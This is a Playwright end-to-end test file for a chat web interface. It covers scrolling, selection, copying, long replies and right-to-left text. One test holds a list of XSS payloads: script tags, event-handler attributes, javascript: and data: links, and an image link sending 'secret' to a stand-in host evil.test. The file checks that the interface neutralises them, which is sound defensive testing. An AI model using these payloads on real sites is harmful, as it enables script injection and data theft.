import type { Page } from 'playwright-core';
import { expect, test } from 'vitest';
import { numbered, shareStack } from './support/setup';

const { stack, open } = shareStack();

const paragraphs = (count: number) => numbered(count).map((word) => `${word}\n\n`);

async function distanceToEnd(page: Page): Promise<number> {
  return page
    .locator('section.timeline')
    .evaluate((e) => e.scrollHeight - e.scrollTop - e.clientHeight);
}

test('the end is followed while a reply arrives, also a long one', async () => {
  const chat = await open();
  stack.model.script('follow', { pieces: paragraphs(120), holdBefore: 60 });
  await chat.send('follow');
  await chat.page.locator('.timeline').getByText('w59').waitFor();
  await expect.poll(() => distanceToEnd(chat.page)).toBeLessThanOrEqual(8);
  stack.model.release('follow');
  await chat.page.locator('.timeline').getByText('w119').waitFor();
  await expect.poll(() => distanceToEnd(chat.page)).toBeLessThanOrEqual(8);
  await chat.agrees();
  await chat.close();
});

test('a reader who scrolled up stays there, and sees that there is new text', async () => {
  const chat = await open();
  stack.model.script('stay', { pieces: paragraphs(200), holdBefore: 60, pauseMs: 5 });
  await chat.send('stay');
  await chat.page.locator('.timeline').getByText('w59').waitFor();
  const timeline = chat.page.locator('section.timeline');
  await timeline.hover();
  await chat.page.mouse.wheel(0, -600);
  await chat.page.locator('.timeline').getByText('New text below').waitFor();
  const top = await timeline.evaluate((element) => element.scrollTop);
  stack.model.release('stay');
  await chat.answered();
  expect(await timeline.evaluate((element) => element.scrollTop)).toBe(top);
  await chat.page.getByRole('button', { name: 'To the end' }).click();
  await expect.poll(() => distanceToEnd(chat.page)).toBeLessThanOrEqual(8);
  await chat.agrees();
  await chat.close();
});

test('with the setting "stay", the own message does not scroll out of view', async () => {
  const chat = await open();
  await chat.page.getByRole('button', { name: 'Settings' }).click();
  await chat.page.getByText('Stay at its beginning').click();
  await chat.page.getByRole('button', { name: 'Close' }).click();
  stack.model.script('from the beginning', { pieces: paragraphs(100) });
  await chat.send('from the beginning');
  await chat.answered();
  const box = await chat.page.locator('.message.own').boundingBox();
  expect(box?.y ?? -1).toBeGreaterThanOrEqual(0);
  await chat.agrees();
  await chat.close();
});

test('selected text stays selected while the reply grows', async () => {
  const chat = await open();
  stack.model.script('select', { pieces: paragraphs(80), holdBefore: 40 });
  await chat.send('select');
  await chat.page.locator('.timeline').getByText('w39').waitFor();
  await chat.page.locator('.timeline').getByText('w3', { exact: false }).first().selectText();
  const selected = await chat.page.evaluate(() => String(getSelection()));
  expect(selected).not.toBe('');
  stack.model.release('select');
  await chat.page.locator('.timeline').getByText('w79').waitFor();
  expect(await chat.page.evaluate(() => String(getSelection()))).toBe(selected);
  await chat.answered();
  await chat.page.evaluate(() => getSelection()?.removeAllRanges());
  await chat.agrees();
  await chat.close();
});

test('earlier messages are loaded by scrolling up, and the place is kept', async () => {
  const chat = await open();
  await chat.send('start');
  await chat.answered();
  const id = chat.sessionId();
  const messages = Array.from({ length: 160 }, (_, n) => ({
    role: n % 2 ? 'assistant' : 'user',
    content: `imported ${n}`,
  }));
  await chat.api(`/history/${id}`, { method: 'POST', body: JSON.stringify({ messages }) });
  await chat.page.reload();
  await chat.page.locator('.timeline').getByText('imported 159').waitFor();
  const timeline = chat.page.locator('section.timeline');
  await timeline.hover();
  let loaded = await chat.page.locator('[data-message]').count();
  expect(loaded).toBeLessThan(100);
  await chat.page.mouse.wheel(0, -20_000);
  const first = chat.page.locator('[data-message]').first();
  const id0 = await first.getAttribute('data-message');
  await expect.poll(() => chat.page.locator('[data-message]').count()).toBeGreaterThan(loaded);
  const after = await chat.page.locator(`[data-message="${id0}"]`).boundingBox();
  // It was at the top; without its place kept, it would be thousands of pixels further down.
  expect(after?.y).toBeGreaterThan(-200);
  expect(after?.y).toBeLessThan(500);
  for (; loaded < 162; loaded = await chat.page.locator('[data-message]').count()) {
    await chat.page.mouse.wheel(0, -20_000);
    await chat.page
      .locator('.timeline')
      .getByText('imported 0', { exact: true })
      .waitFor({ timeout: 500 })
      .catch(() => undefined);
  }
  await chat.page.locator('.timeline').getByText('start', { exact: true }).first().waitFor();
  expect(chat.errors).toEqual([]);
  await chat.close();
});

test('copying gives the source of a message and of a code block, to the byte', async () => {
  const chat = await open();
  const code = 'def f(x):\n\treturn x  # 中文\n';
  const source = `# Title\n\n- **a** \`b\`\n\n\`\`\`python\n${code}\`\`\`\n\nEnd  \nof it.`;
  stack.model.script('code', { pieces: [source] });
  await chat.send('code');
  await chat.answered();
  await chat.page.getByRole('button', { name: 'Copy code' }).click();
  const clipboard = () => chat.page.evaluate(() => navigator.clipboard.readText());
  await expect.poll(clipboard).toBe(code.trimEnd());
  await chat.page.getByRole('button', { name: 'Copy', exact: true }).last().click();
  await expect.poll(clipboard).toBe(source);
  const types = await chat.page.evaluate(async () =>
    (await navigator.clipboard.read()).flatMap((item) => item.types),
  );
  expect(types).toContain('text/html');
  await chat.agrees();
  await chat.close();
});

test('hostile markup runs nothing, loads nothing and links nowhere', async () => {
  const chat = await open();
  const payloads = [
    '<script>window.hacked = 1</script>',
    '<img src=x onerror="window.hacked = 1">',
    '<svg onload="window.hacked = 1">',
    '<iframe src="javascript:window.hacked=1"></iframe>',
    '[click](javascript:window.hacked=1)',
    '[click](JaVaScRiPt:window.hacked=1)',
    '[click](data:text/html,<script>1</script>)',
    '![x](https://evil.test/?q=secret)',
    '<a href="javascript:window.hacked=1">x</a>',
    '[ref]\n\n[ref]: javascript:window.hacked=1',
    '<https://evil.test/"onmouseover="window.hacked=1>',
    '<style>*{display:none}</style>',
    '[good](https://example.org/a)',
  ];
  stack.model.script('attack', { pieces: payloads.map((payload) => `${payload}\n\n`) });
  const foreign: string[] = [];
  chat.page.on('request', (request) => {
    if (!request.url().startsWith(stack.url) && !request.url().startsWith('data:')) {
      foreign.push(request.url());
    }
  });
  await chat.send('attack');
  await chat.answered();
  await chat.send('<b>own</b> <script>window.hacked = 1</script>');
  await chat.page.locator('.timeline').getByText('Answer to: <b>own</b>').waitFor();
  await chat.answered();
  expect(await chat.page.evaluate(() => 'hacked' in window)).toBe(false);
  const links = await chat.page
    .locator('.message a')
    .evaluateAll((all) => all.map((a) => [a.getAttribute('href'), a.getAttribute('rel')]));
  expect(links.length).toBeGreaterThan(0);
  for (const [href, rel] of links) {
    expect(href).toMatch(/^(https?:|mailto:)/);
    expect(rel).toBe('noopener noreferrer nofollow');
  }
  expect(
    await chat.page.locator('.message :is(script, img, svg:not(.icon), iframe, style)').count(),
  ).toBe(0);
  expect(foreign).toEqual([]);
  await chat.agrees();
  await chat.close();
});

test('replies that hold a parser for seconds do not hold the page', async () => {
  const chat = await open();
  const replies = {
    'one line': 'x y '.repeat(25_000),
    'Windows paths': 'C:\\Users\\_a_\\b '.repeat(6_000),
    'nested quotes': `${'> '.repeat(2_000)}deep`,
    'deep list': Array.from({ length: 300 }, (_, n) => `${'  '.repeat(n)}- x`).join('\n'),
    backticks: Array.from({ length: 400 }, (_, n) => '`'.repeat(n)).join(' '),
    fences: '```\nx\n```\n\n'.repeat(1_500),
  };
  await chat.page.evaluate(() => {
    const seen = { worst: 0 };
    Object.assign(window, { seen });
    new PerformanceObserver((list) => {
      for (const entry of list.getEntries()) seen.worst = Math.max(seen.worst, entry.duration);
    }).observe({ entryTypes: ['longtask'] });
  });
  for (const [name, text] of Object.entries(replies)) {
    const pieces = text.match(/[\s\S]{1,4000}/g) ?? [];
    stack.model.script(name, { pieces });
    await chat.send(name);
    await expect
      .poll(
        async () => (await chat.history()).filter((e) => e.role === 'assistant').at(-1)?.content,
        {
          timeout: 30_000,
        },
      )
      .toBe(text);
    await chat.answered();
  }
  const worst = await chat.page.evaluate(
    () => (window as unknown as { seen: { worst: number } }).seen.worst,
  );
  // A page that stands still for longer is one that hangs.
  expect(worst).toBeLessThan(3_000);
  await chat.agrees();
  await chat.close();
}, 120_000);

test('right-to-left text starts at the right, and code never does', async () => {
  const chat = await open();
  stack.model.script('hebrew', {
    pieces: ['שלום עולם\n\n- פריט\n\n```\nlet a = 1;\n```\n\nEnglish.'],
  });
  await chat.send('hebrew');
  await chat.answered();
  const direction = (selector: string) =>
    chat.page
      .locator(selector)
      .first()
      .evaluate((element) => getComputedStyle(element).direction);
  expect(await direction('.markdown p')).toBe('rtl');
  expect(await direction('.markdown ul')).toBe('rtl');
  expect(await direction('.markdown pre')).toBe('ltr');
  expect(await direction('.markdown p:last-child')).toBe('ltr');
  await chat.agrees();
  await chat.close();
});
